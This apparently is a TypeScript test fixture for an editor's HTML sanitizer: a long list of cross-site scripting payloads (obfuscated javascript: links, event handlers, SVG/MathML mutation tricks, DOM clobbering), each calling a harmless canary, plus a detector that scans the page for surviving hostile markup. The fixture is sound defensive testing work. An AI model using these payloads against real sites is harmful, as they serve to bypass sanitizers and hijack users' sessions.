/** Ways to write an address that runs, with what browsers leave out or decode. */
const RUNNING_ADDRESSES = [
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  ' \t\n\u0001javascript:canary()',
  'java&Tab;script:canary()',
  'java&NewLine;script&colon;canary()',
  '&#0000106&#0000097vascript:canary()',
  'javascript&#x0000003A;canary()',
  'javascript://%0Acanary()',
  'javascript:/*--></title></style>*/canary()',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary()"/>',
  'blob:https://canary.invalid/a',
];

const ADDRESS_ATTRIBUTES =
  'href xlink:href src srcset action formaction poster background data cite ping manifest longdesc usemap codebase classid profile icon lowsrc dynsrc';

const ELEMENTS =
  'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture portal pre progress q rb rp rt ruby s samp script search section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template tfoot th thead time tr track tt u ul var video wbr xmp x-canary annotation-xml math maction mglyph mtext semantics svg:a animate set use foreignObject'.split(
    ' ',
  );

const EVENTS =
  'onclick onload onerror onfocus onfocusin onbegin ontoggle onstart onanimationend ontransitionend onpointerenter onmouseover onscroll onwheel onpaste oncopy onbeforematch oncontentvisibilityautostatechange';

/** Each element with every handler and every address there is, the ways to write these in turn. */
const ON_EVERY_ELEMENT = ELEMENTS.map((name, at) => {
  const address = RUNNING_ADDRESSES[at % RUNNING_ADDRESSES.length]?.replaceAll('"', '&quot;');
  const addresses = ADDRESS_ATTRIBUTES.split(' ').map((key) => `${key}="${address}"`);
  const handlers = EVENTS.split(' ').map((key) => `${key}=canary()`);
  return `<${name} ${handlers.join(' ')} ${addresses.join(' ')} autofocus tabindex=0>a</${name}>`;
});

/**
 * Markup that wants to run something, to fetch something, or to stay in the page, one technique a
 * line. Each calls `canary()` or asks `canary.invalid`.
 */
export const HOSTILE_MARKUP: readonly string[] = [
  // Scripts, and what ends early what stands around them.
  '<script>canary()</script>',
  '<script src="https://canary.invalid/a.js"></script>',
  '<script type="module">canary()</script>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<!--><script>canary()</script>-->',
  '<!--<img src="--><img src=x onerror=canary()//">',
  '<style><img src="</style><img src=x onerror=canary()>">',
  '<title></title><script>canary()</script>',
  '<textarea></textarea><img src=x onerror=canary()>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=canary()>"></noembed>',
  '<xmp><img title="</xmp><img src=x onerror=canary()>"></xmp>',
  '<iframe><img title="</iframe><img src=x onerror=canary()>"></iframe>',
  '<plaintext><img src=x onerror=canary()>',
  // Handlers.
  '<img src=x onerror=canary()>',
  '<img/src=x/onerror=canary()>',
  '<p onmouseover="canary()" onclick="canary()" onfocus="canary()" tabindex=0 autofocus>a</p>',
  '<body onload=canary()>a',
  '<details open ontoggle=canary()><summary>a</summary></details>',
  '<video autoplay onloadstart=canary()><source onerror=canary() src=x></video>',
  '<audio src=x onerror=canary()></audio>',
  '<input autofocus onfocus=canary()>',
  '<marquee onstart=canary()>a</marquee>',
  '<p style="animation: a 1s" onanimationstart=canary()>a</p>',
  '<select onfocus=canary() autofocus><option>a</select>',
  '<dialog open oncancel=canary() onclose=canary()>a</dialog>',
  '<p contenteditable onbeforeinput=canary() oncut=canary()>a</p>',
  '<a href=# onauxclick=canary() popovertarget=x>a</a><p id=x popover onbeforetoggle=canary()>b</p>',
  // Addresses.
  '<a href="javascript:canary()">a</a>',
  '<a href="java\tscript:canary()">a</a>',
  '<a href="&#1;javascript&colon;canary()">a</a>',
  '<a href="JaVaScRiPt&#x3a;canary()">a</a>',
  '<a href="vbscript:canary()">a</a><a href="data:text/html,<script>canary()</script>">b</a>',
  '<a href="https://canary.invalid/" ping="https://canary.invalid/ping">a</a>',
  '<a xlink:href="javascript:canary()">a</a>',
  '<form action="javascript:canary()"><button>a</button></form>',
  '<button formaction="javascript:canary()" form=f>a</button><form id=f></form>',
  '<map name=m><area href="javascript:canary()" shape=default></map><img usemap=#m src=x>',
  '<blockquote cite="javascript:canary()"><q cite="javascript:canary()">a</q></blockquote>',
  // Documents within.
  '<iframe src="https://canary.invalid/"></iframe>',
  '<iframe src="javascript:parent.canary()"></iframe>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<object data="data:text/html,<script>parent.canary()</script>"></object>',
  '<embed src="https://canary.invalid/a.swf">',
  '<template><img src=x onerror=canary()></template>',
  '<div><template shadowrootmode=open><img src=x onerror=canary()></template></div>',
  // SVG and MathML, and what changes its meaning when it is written and read again.
  '<svg onload=canary()></svg>',
  '<svg><script>canary()</script></svg>',
  '<svg><a xlink:href="javascript:canary()"><text y=9>a</text></a></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=canary() />#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=canary()></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=canary()>">',
  '<svg><desc><style><!--</style><img title="--><img src=x onerror=canary()>"></desc></svg>',
  '<math href="javascript:canary()"><mi>a</mi></math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:canary()">a</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=canary()></style></annotation-xml></math>',
  '<table><tr><td><svg><p><style><g title="</style><img src=x onerror=canary()>">',
  // Things to be fetched, styles, and names that hide what the page has.
  '<img src="https://canary.invalid/p.png" srcset="https://canary.invalid/q.png 2x">',
  '<picture><source srcset="https://canary.invalid/p.png"><img src=x></picture>',
  '<video poster="https://canary.invalid/p.png"><track src="https://canary.invalid/t"></video>',
  '<table background="https://canary.invalid/p.png"><tr><td>a</table>',
  '<link rel=stylesheet href="https://canary.invalid/a.css"><link rel=preconnect href="https://canary.invalid">',
  '<meta http-equiv=refresh content="0;url=https://canary.invalid/"><base href="https://canary.invalid/">',
  '<style>@import "https://canary.invalid/a.css"; * { background: url(https://canary.invalid/b) }</style>',
  '<p style="position:fixed;inset:0;z-index:9999;background:url(https://canary.invalid/c)">a</p>',
  '<form name=attributes id=getElementById><input name=parentNode><input name=childNodes></form>',
  '<a id=canary name=documentElement></a><img name=querySelector><form id=body></form>',
  '<p is="x-canary" slot=a part=b nonce=c>a</p>',
  '<p data-galley="canary" data-anchor="canary" class="ProseMirror" contenteditable=false>a</p>',
  // What parsers disagree about: ends of comments, other languages' sections, elements of one's own.
  '<!--a--!><img src=x onerror=canary()>-->',
  '<!-- --\n><img src=x onerror=canary()> -->',
  '<!><img src=x onerror=canary()>',
  '<!-><img src=x onerror=canary()>-->',
  '<?xml version="1.0"?><?a <img src=x onerror=canary()>?>',
  '<?xml-stylesheet href="javascript:canary()"?><p>a</p>',
  '<![CDATA[<img src=x onerror=canary()>]]>',
  '<svg><![CDATA[</svg><img src=x onerror=canary()>]]></svg>',
  '<svg><title><![CDATA[</title><img src=x onerror=canary()>]]></title></svg>',
  '<!doctype a [<!ENTITY b "<img src=x onerror=canary()>">]>&b;',
  '<!--[if gte IE 4]><script>canary()</script><![endif]-->',
  '<img src="x" title="a onerror=canary() ',
  "<img src='x' title='a\" onerror=canary()//'>",
  '<img src=x onerror\u0000=canary()><scr\u0000ipt>canary()</script>',
  '<img src=x onerror\u2028=canary()><img\u000csrc=x\u000conerror=canary()>',
  '</p/onclick=canary()><//img src=x onerror=canary()>',
  '<x-canary onclick=canary()><template shadowrootmode=closed><script>canary()</script></template></x-canary>',
  '<button is=x-canary onclick=canary()></button><script is=x-canary>canary()</script>',
  '<template><template><script>canary()</script></template></template>',
  '<math><mi><svg><mi><style><img title="</style><img src=x onerror=canary()>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=canary()>">',
  '<math><mtext><option><mglyph><option><style></option></select></mtext></math><img src=x onerror=canary()>',
  `${'<div>'.repeat(600)}<table><caption><svg><title><style><!--</style>--><img src=x onerror=canary()>`,
  '<select><option><style></option></select><img src=x onerror=canary()></style></select>',
  '<frameset><frame src="javascript:parent.canary()"></frameset>',
  '<svg><set attributeName=href to="javascript:canary()"/><a id=a><text>a</text></a></svg>',
  '<svg><image href="https://canary.invalid/p.png"/><feImage href="https://canary.invalid/q.png"/></svg>',
  '<style>@namespace "x"; a[href^=a]{background:url(//canary.invalid/a)} @font-face{src:url(//canary.invalid/f)}</style>',
  '<p style="width:expression(canary());-moz-binding:url(//canary.invalid/x);behavior:url(x)">a</p>',
  '<link rel="prefetch dns-prefetch modulepreload" href="//canary.invalid/a"><link rel=import href="//canary.invalid/b">',
  '<meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=set-cookie content=a=b>',
  '<img name=body><img name=head><form id=forms><input name=nodeName><input name=ownerDocument></form>',
  '<iframe name=galley srcdoc="&lt;script&gt;parent.canary()&lt;/script&gt;" sandbox="allow-scripts allow-same-origin"></iframe>',
  ...ON_EVERY_ELEMENT,
];

/** What may be in the window although it came from elsewhere: words, and links to the web and to mail. */
const SAFE_ADDRESS = /^(?:https?:|mailto:|#|$)/;

/**
 * What is in the page that should not be; empty where all is well. Runs in the browser, so it may use
 * nothing from outside itself but its argument.
 */
export function findIntruders(safeAddress: string): string[] {
  const safe = new RegExp(safeAddress);
  const found: string[] = [];
  if (Reflect.get(window, 'sang') === true) found.push('the canary sang');
  for (const area of document.querySelectorAll('.ProseMirror, [role="dialog"]')) {
    const forbidden =
      'script, style, iframe, object, embed, link, meta, base, math, form[action], foreignObject, animate, use, video, audio, details, marquee';
    for (const element of area.querySelectorAll(forbidden)) found.push(element.outerHTML);
    for (const element of area.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) found.push(`${name}=${value}`);
        if (!/^(?:.*:)?(?:href|src|srcset|action|formaction|poster|ping|cite|data)$/i.test(name)) {
          continue;
        }
        const own = value.startsWith(`${location.origin}/`) || value.startsWith('blob:');
        if (!safe.test(value.trim()) && !own) found.push(`${name}=${value}`);
        if (element.localName !== 'a' && /canary/.test(value)) found.push(`${name}=${value}`);
      }
    }
  }
  return found;
}

/** The argument of `findIntruders`. */
export const SAFE_ADDRESS_SOURCE = SAFE_ADDRESS.source;
